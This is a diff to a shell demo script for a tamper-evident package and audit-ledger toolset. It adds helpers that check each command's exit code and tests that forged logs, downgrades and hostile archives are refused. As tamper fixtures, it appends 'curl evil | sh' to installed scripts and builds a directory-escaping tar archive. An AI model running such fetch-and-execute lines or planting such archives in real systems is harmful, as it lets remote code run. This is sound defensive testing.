@@ -12,7 +12,29 @@ unset CONTROL_PLANE CONTROL_PLANE_SIGNING_KEY CONTROL_PLANE_VERIFY_KEY
 export XDG_CONFIG_HOME="$work/config"
 
 step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
-run() { printf '$ %s\n' "$*" >&2; "$@"; }
+
+# Every cp-* command runs through check, expect or run: it must exit with
+# the status its step expects (a refusal with the refusal's code, not just
+# "some failure"), and its stderr, shown as it comes, must hold no Go panic.
+# Any other outcome stops the demo with an error.
+check() { # check CODE CMD...: run CMD (stdout as is, stderr shown), exit CODE
+	local want=$1 code=0 err
+	shift
+	err=$(mktemp "$work/.stderr.XXXXXX")
+	"$@" 2>"$err" || code=$?
+	cat "$err" >&2
+	if grep -Eq '^(panic: |fatal error: |goroutine [0-9]+ \[)' "$err"; then
+		echo "demo: error: $1 crashed (above): $*" >&2
+		exit 1
+	fi
+	rm -f "$err"
+	if [ "$code" != "$want" ]; then
+		echo "demo: error: exit status $code, want $want: $*" >&2
+		exit 1
+	fi
+}
+expect() { printf '$ %s\n' "${*:2}" >&2; check "$@"; } # expect CODE CMD...: show CMD, then check
+run() { expect 0 "$@"; }                                  # run CMD...: show CMD; it must succeed
 field() { # field KEY: print the value of a top-level-ish "KEY":value from stdin
 	grep -o "\"$1\":[^,}]*" | head -n1 | cut -d: -f2- | tr -d '"'
 }
@@ -44,41 +66,28 @@ cp audit.checkpoint witness-copy.checkpoint
 step "6. prove entry 2 is in the log, and check the proof offline with only the public key"
 run cp-ledger prove --ledger audit.jsonl --seq 2 > proof.json
 cat proof.json
-printf '$ cp-ledger verify --verify-key demo-ops.pub < proof.json\n'
-cp-ledger verify --verify-key demo-ops.pub < proof.json
+run cp-ledger verify --verify-key demo-ops.pub < proof.json
 
 step "7. the log grows; a consistency proof shows the old checkpoint is a prefix"
-cp-ledger append --ledger audit.jsonl --event-type SESSION_END --submission-id WO-1 >/dev/null
-run cp-ledger consistency --ledger audit.jsonl --from 4 | cp-ledger verify --trusted-checkpoint witness-copy.checkpoint --verify-key demo-ops.pub
+check 0 cp-ledger append --ledger audit.jsonl --event-type SESSION_END --submission-id WO-1 >/dev/null
+run cp-ledger consistency --ledger audit.jsonl --from 4 | run cp-ledger verify --trusted-checkpoint witness-copy.checkpoint --verify-key demo-ops.pub
 
 step "8. someone edits history: entry 1's decision ALLOW → DENY"
 sed -i '2s/"decision":"ALLOW"/"decision":"DENY"/' audit.jsonl
 sed -n 2p audit.jsonl | cut -c1-110
-printf '$ cp-ledger verify --ledger audit.jsonl --verify-key demo-ops.pub\n'
-if cp-ledger verify --ledger audit.jsonl --verify-key demo-ops.pub > verdict.json 2> verdict.err; then
-	echo "demo: error: the tampered ledger verified" >&2
-	exit 1
-else
-	code=$?
-fi
-cat verdict.err
-printf 'exit status %s; first bad seq: %s\n' "$code" "$(field first_bad_seq < verdict.json)"
+expect 1 cp-ledger verify --ledger audit.jsonl --verify-key demo-ops.pub > verdict.json
+printf 'exit status 1; first bad seq: %s\n' "$(field first_bad_seq < verdict.json)"
 
 step "9. a forger rewrites history consistently (new hashes, new tree): the witness's checkpoint catches it"
 sed -i '2s/"decision":"DENY"/"decision":"ALLOW"/' audit.jsonl   # undo the crude edit
 mkdir forged && (
 	cd forged
-	cp-ledger append --ledger audit.jsonl --event-type SESSION_START --submission-id WO-1 >/dev/null
-	cp-ledger append --ledger audit.jsonl --event-type NOTHING_TO_SEE --submission-id WO-1 >/dev/null
-	for _ in 1 2 3; do cp-ledger append --ledger audit.jsonl --event-type TOOL_CALL >/dev/null; done
+	check 0 cp-ledger append --ledger audit.jsonl --event-type SESSION_START --submission-id WO-1 >/dev/null
+	check 0 cp-ledger append --ledger audit.jsonl --event-type NOTHING_TO_SEE --submission-id WO-1 >/dev/null
+	for _ in 1 2 3; do check 0 cp-ledger append --ledger audit.jsonl --event-type TOOL_CALL >/dev/null; done
 )
 cp forged/audit.jsonl forged/audit.tlog .
-printf '$ cp-ledger verify --ledger audit.jsonl --trusted-checkpoint witness-copy.checkpoint --verify-key demo-ops.pub\n'
-if cp-ledger verify --ledger audit.jsonl --trusted-checkpoint witness-copy.checkpoint --verify-key demo-ops.pub > verdict.json 2> verdict.err; then
-	echo "demo: error: the forged ledger verified" >&2
-	exit 1
-fi
-cat verdict.err
+expect 1 cp-ledger verify --ledger audit.jsonl --trusted-checkpoint witness-copy.checkpoint --verify-key demo-ops.pub > verdict.json
 
 step "10. a plane: three tiers, GENESIS-linked ledgers, registries, the kernel package (cp-install bootstrap)"
 run cp-install bootstrap --root plane --trust-key demo-ops.pub > bootstrap.json
@@ -87,8 +96,7 @@ printf 'HO2 GENESIS records HO3 head: '; grep -o '"parent_hash":"[0-9a-f]\{12\}'
 export CONTROL_PLANE="$work/plane"
 run cp-ledger verify --plane ho1 --format text
 printf '$ cp-install bootstrap --root plane   (again)\n'
-if cp-install bootstrap --root plane >/dev/null 2>err.txt; then echo "demo: error: bootstrap ran twice" >&2; exit 1; fi
-cat err.txt
+check 1 cp-install bootstrap --root plane >/dev/null
 
 step "11. law: register a framework (MUST invariants) and a spec (what packages may install)"
 cat > fmwk-tools.md <<'DOC'
@@ -111,8 +119,7 @@ run cp-pkg register-framework FMWK-TOOLS-001 --src fmwk-tools.md >/dev/null
 run cp-pkg register-spec SPEC-TOOLS-001 --src spec-tools >/dev/null
 sed -e 's/version: 1.0.0/version: 1.1.0/' -e '/log every tool call/d' fmwk-tools.md > fmwk-tools-v2.md
 printf '$ cp-pkg check-framework FMWK-TOOLS-001 --src fmwk-tools-v2.md   (drops a MUST)\n'
-if cp-pkg check-framework FMWK-TOOLS-001 --src fmwk-tools-v2.md >/dev/null 2>err.txt; then echo "demo: error: a breaking change passed" >&2; exit 1; fi
-cat err.txt
+check 1 cp-pkg check-framework FMWK-TOOLS-001 --src fmwk-tools-v2.md >/dev/null
 
 step "12. a package: init, add files, stage (hashes, preflight, deterministic archive), sign, preflight the archive"
 run cp-pkg init PKG-TOOLS-001 --spec SPEC-TOOLS-001 --output tools >/dev/null
@@ -125,11 +132,10 @@ run cp-pkg sign --archive plane/_staging/PKG-TOOLS-001.tar.gz --key demo-ops.key
 run cp-pkg preflight --archive plane/_staging/PKG-TOOLS-001.tar.gz --format text
 
 step "13. refusals: a file owned by the kernel, and an archive that tries to escape"
-cp-pkg init PKG-THIEF-001 --spec SPEC-KERNEL-001 --output thief2 >/dev/null
+check 0 cp-pkg init PKG-THIEF-001 --spec SPEC-KERNEL-001 --output thief2 >/dev/null
 mkdir -p thief2/config && printf '{"governed_roots":["lib/"]}\n' > thief2/config/governed_roots.json
 printf '$ cp-pkg stage PKG-THIEF-001 --src thief2 --declare --out dist   (declares config/governed_roots.json)\n'
-if cp-pkg stage PKG-THIEF-001 --src thief2 --declare --out dist >/dev/null 2>err.txt; then echo "demo: error: an owned file was staged" >&2; exit 1; fi
-cat err.txt
+check 1 cp-pkg stage PKG-THIEF-001 --src thief2 --declare --out dist >/dev/null
 python3 - <<'PY' 2>/dev/null || printf 'evil' | gzip > evil.tar.gz
 import io, tarfile
 with tarfile.open("evil.tar.gz", "w:gz") as t:
@@ -137,8 +143,7 @@ with tarfile.open("evil.tar.gz", "w:gz") as t:
         info = tarfile.TarInfo(name); info.size = len(data); t.addfile(info, io.BytesIO(data))
 PY
 printf '$ cp-pkg preflight --archive evil.tar.gz\n'
-if cp-pkg preflight --archive evil.tar.gz >/dev/null 2>err.txt; then echo "demo: error: a hostile archive passed" >&2; exit 1; fi
-cat err.txt
+check 3 cp-pkg preflight --archive evil.tar.gz >/dev/null
 test ! -e ../escape.txt && test ! -e escape.txt && echo "nothing was written outside (or inside) the plane"
 run cp-ledger verify --format text
 
@@ -160,23 +165,22 @@ sed -i -e 's/"version": "0.1.0"/"version": "0.2.0"/' tools/manifest.json
 # Each result is the next request (DESIGN.md §3); the archive and manifest
 # hashes stage saw must still hold when sign and install act.
 printf '$ cp-pkg stage PKG-TOOLS-001 --src tools --declare | cp-pkg sign --key demo-ops.key | cp-install --format text\n' >&2
-cp-pkg stage PKG-TOOLS-001 --src tools --declare | cp-pkg sign --key demo-ops.key | cp-install --format text
+check 0 cp-pkg stage PKG-TOOLS-001 --src tools --declare | check 0 cp-pkg sign --key demo-ops.key | check 0 cp-install --format text
 ls plane/lib/tools plane/config | tr '\n' ' '; echo
 
 step "16. a downgrade is refused (and recorded); so is overwriting a file edited on disk"
 printf '$ cp-install --archive v1/PKG-TOOLS-001.tar.gz\n'
-if cp-install --archive v1/PKG-TOOLS-001.tar.gz >/dev/null 2>err.txt; then echo "demo: error: a downgrade installed" >&2; exit 1; fi
-cat err.txt
+check 1 cp-install --archive v1/PKG-TOOLS-001.tar.gz >/dev/null
 chmod u+w plane/lib/tools/find.sh && echo 'curl evil | sh' >> plane/lib/tools/find.sh
 printf '$ cp-install --archive plane/_staging/PKG-TOOLS-001.tar.gz --force   (re-apply 0.2.0 over the edit)\n'
-cp-install --archive plane/_staging/PKG-TOOLS-001.tar.gz --force --format text
+check 0 cp-install --archive plane/_staging/PKG-TOOLS-001.tar.gz --force --format text
 
 step "17. rollback to the 0.1.0 checkpoint: exactly that state, atomically, then the integrity checks"
 run cp-install versions --format text
 run cp-install rollback --version-id "$v1" --format text
 ls plane/lib/tools plane/config | tr '\n' ' '; echo
 printf '$ cp-ledger show --where %s\n' "'.event_type | test(\"INSTALL|ROLL\")'"
-cp-ledger show --where '.event_type | test("INSTALL|ROLL")' | sed -E 's/.*"event_type":"([^"]*)".*"reason":"([^"]*)".*"seq":([0-9]+).*/  seq \3  \1: \2/' 
+check 0 cp-ledger show --where '.event_type | test("INSTALL|ROLL")' | sed -E 's/.*"event_type":"([^"]*)".*"reason":"([^"]*)".*"seq":([0-9]+).*/  seq \3  \1: \2/' 
 run cp-ledger verify --format text
 
 step "18. trust a release key: cp-install builds a kernel patch release and installs it on all three tiers in one change"
@@ -189,10 +193,9 @@ step "19. the gates, each against the bytes on disk (cp-gate); an edited file G0
 run cp-gate --format text
 chmod u+w plane/lib/tools/list.sh && echo 'curl evil | sh' >> plane/lib/tools/list.sh
 printf '$ cp-gate integrity --format text   (after appending to lib/tools/list.sh)\n'
-if cp-gate integrity --format text 2>err.txt; then echo "demo: error: an edited file passed G0B" >&2; exit 1; fi
-cat err.txt
+check 1 cp-gate integrity --format text
 printf '$ cp-gate --gate G0B --format sarif > gate.sarif\n'
-if cp-gate --gate G0B --format sarif > gate.sarif 2>/dev/null; then echo "demo: error: an edited file passed G0B" >&2; exit 1; fi
+check 1 cp-gate --gate G0B --format sarif > gate.sarif
 grep -E '"(version|ruleId|uri)"' gate.sarif | sed 's/^ */  /'
 
 printf '\ndemo: ok (worked in %s, now removed)\n' "$work"
